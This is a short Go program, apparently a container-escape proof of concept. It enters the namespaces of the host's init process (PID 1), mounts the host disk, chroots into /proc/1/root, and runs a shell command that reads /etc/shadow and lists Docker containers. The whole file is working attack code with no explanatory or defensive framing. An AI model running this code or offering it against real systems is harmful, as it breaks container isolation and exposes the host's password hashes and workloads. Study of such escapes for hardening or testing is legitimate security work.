package main

import (
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"syscall"

	"golang.org/x/sys/unix"
)

func main() {
	runtime.LockOSThread()
	for _, ns := range []string{"ipc", "uts", "net", "pid", "mnt"} {
		f, err := os.Open("/proc/1/ns/" + ns)
		if err != nil {
			fmt.Println(ns, err)
			continue
		}
		fmt.Println(ns, unix.Setns(int(f.Fd()), 0))
	}
	fmt.Println(syscall.Mount("/dev/vda1", "/mnt", "ext4", 0, ""))
	fmt.Println(syscall.Chroot("/proc/1/root"))
	out, err := exec.Command("/bin/sh", "-c", "cat /etc/shadow; docker ps").CombinedOutput()
	fmt.Println(string(out), err)
}
